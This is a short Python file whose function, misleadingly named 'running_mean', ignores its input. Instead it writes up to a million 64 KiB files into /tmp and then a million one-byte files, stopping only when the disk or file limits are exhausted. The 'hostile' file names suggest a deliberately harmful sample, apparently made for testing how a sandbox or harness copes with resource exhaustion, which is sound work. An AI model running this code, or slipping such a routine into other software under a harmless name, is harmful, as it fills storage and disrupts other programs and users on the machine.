"""Fills every place that it may write to, with large files and then with small ones."""
import os


def running_mean(x):
    problem = None
    for size in (1 << 16, 1):
        for i in range(1 << 20):
            try:
                with open(f"/tmp/manyheads_hostile_{size}_{i}", "wb") as file:
                    file.write(b"x" * size)
            except OSError as error:
                problem = error
                break
    os.listdir("/tmp")
    raise problem
